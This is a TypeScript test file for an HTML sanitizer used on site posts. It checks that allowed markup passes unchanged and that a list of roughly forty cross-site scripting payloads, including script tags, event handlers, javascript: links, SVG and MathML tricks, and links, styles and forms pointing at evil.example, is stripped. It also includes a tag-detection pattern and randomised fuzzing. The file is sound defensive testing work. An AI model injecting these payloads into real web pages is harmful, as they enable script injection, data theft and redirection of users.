import { describe, expect, it } from 'vitest';

import { cleanHtml } from '../../../src/lib/clean-html.ts';
import { fc } from '../../support/properties.ts';

describe('what a post may contain', () => {
  it.each([
    [
      'text and inline marks',
      '<p>One <strong>two</strong> <em>three</em> <code>a &lt; b</code></p>',
    ],
    ['headings with ids', '<h2 id="one-two">One two</h2>'],
    [
      'links inside and outside',
      '<p><a href="/help#faq">in</a> <a href="https://example.com/a?b=1&amp;c=2">out</a> <a href="mailto:a@b.example">mail</a></p>',
    ],
    ['lists', '<ol start="3"><li>a</li></ol><ul><li>b</li></ul>'],
    [
      'tables',
      '<table><thead><tr><th scope="col">a</th></tr></thead><tbody><tr><td colspan="2">b</td></tr></tbody></table>',
    ],
    [
      'a table that scrolls',
      '<div class="scroll" role="group" aria-label="Ways" tabindex="0"></div>',
    ],
    ['pictures of this site', '<img src="/covers/a.svg" alt="A line">'],
    ['questions', '<details name="questions"><summary>Q</summary></details>'],
    [
      'drawings',
      '<svg role="img" aria-label="A" viewBox="0 0 4 4" fill="none"><path class="signal" d="M0 0h4"></path><text x="1" y="2" font-size="15">-16</text></svg>',
    ],
  ])('keeps %s', (_, html) => {
    expect(cleanHtml(html)).toBe(html);
  });

  it('closes the empty elements of a drawing and whatever was left open', () => {
    expect(cleanHtml('<svg><path d="M0 0"/><g><circle r="1"/></svg><p>a<b>c')).toBe(
      '<svg><path d="M0 0"></path><g><circle r="1"></circle></g></svg><p>a<b>c</b></p>',
    );
  });

  it('drops the marks of this build and closing tags that open nothing', () => {
    expect(cleanHtml('<p data-astro-cid-x style="color:red">a</b></p></div>')).toBe('<p>a</p>');
  });
});

const attacks = [
  '<script>alert(1)</script>',
  '<scr<script></script>ipt>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<img src=x onerror=alert(1)>',
  '<img src="//evil.example/x.png">',
  '<img/src="/a"/onerror=alert(1)>',
  '<p onclick="alert(1)" ONMOUSEOVER=alert(1)>a</p>',
  '<a href="javascript:alert(1)">a</a>',
  '<a href=" javascript:alert(1)">a</a>',
  '<a href="java\tscript:alert(1)">a</a>',
  '<a href="&#106;avascript:alert(1)">a</a>',
  '<a href="/&sol;evil.example">a</a>',
  '<a href="//evil.example">a</a>',
  '<a href="/\\evil.example">a</a>',
  '<a href="data:text/html,<script>alert(1)</script>">a</a>',
  '<svg onload=alert(1)><path d="M0 0"/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=alert(1)>"/></svg>',
  '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>a</text></a></svg>',
  '<svg><title><img src=x onerror=alert(1)></title></svg>',
  '<path fill="url(https://evil.example/x)"></path>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<iframe src="/x"></iframe><object data="x"></object><embed src="x">',
  '<style>*{background:url(//evil.example)}</style>',
  '<p style="background:url(//evil.example)">a</p>',
  '<form action="//evil.example"><input name="password"><button formaction="javascript:alert(1)">a</button></form>',
  '<textarea><img src=x onerror=alert(1)></textarea>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
  '<template><script>alert(1)</script></template>',
  '<base href="//evil.example"><link rel="stylesheet" href="//evil.example"><meta http-equiv="refresh" content="0;url=//evil.example">',
  '<img name="cookie" src="/a"><a id="x" name="location">a</a>',
  '<!--><script>alert(1)</script-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p title="><script>alert(1)</script>">a</p>',
  '<p "><img src=x onerror=alert(1)>',
  '<\0script>alert(1)</script>',
];

/** Everything that must not be found in clean markup, looked for in its tags only: text may say what it likes. */
function survivors(html: string): string[] {
  const tags = html.match(/<[^>]*>/g) ?? [];
  const names =
    /^<\/?(?:script|style|iframe|object|embed|form|input|button|textarea|template|noscript|math|use|animate|foreignobject|title|base|link|meta|select)\b/i;
  return tags.filter(
    (tag) =>
      names.test(tag) ||
      /\son\w+\s*=|\sstyle\s*=|javascript:|data:|xlink|evil\.example|url\(/i.test(tag) ||
      (!tag.startsWith('<details') && /\sname=/i.test(tag)),
  );
}

describe('what never gets through', () => {
  it.each(attacks)('%s', (attack) => {
    const clean = cleanHtml(attack);
    expect(survivors(clean)).toEqual([]);
    expect(cleanHtml(clean)).toBe(clean);
  });

  it('holds for attacks cut up and put together at random', () => {
    const piece = fc.oneof(
      fc.constantFrom(...attacks),
      fc
        .tuple(fc.constantFrom(...attacks), fc.nat(60), fc.nat(60))
        .map(([text, from, length]) => text.slice(from, from + length)),
      fc.constantFrom(
        '<',
        '>',
        '"',
        "'",
        '/',
        '=',
        '&',
        ' ',
        '<p>',
        '</p>',
        '<svg>',
        '</svg>',
        '<!--',
        '-->',
        '<a href=',
      ),
      fc.string({ maxLength: 8 }),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 12 }), (pieces) => {
        const clean = cleanHtml(pieces.join(''));
        expect(survivors(clean)).toEqual([]);
        expect(cleanHtml(clean)).toBe(clean);
        // Every angle bracket belongs to a tag that was written here.
        expect(
          clean.replaceAll(/<\/?[a-z][a-z0-9]*(?: [a-zA-Z0-9-]+="[^"<>]*")*>/g, ''),
        ).not.toMatch(/[<>]/);
      }),
    );
  });
});
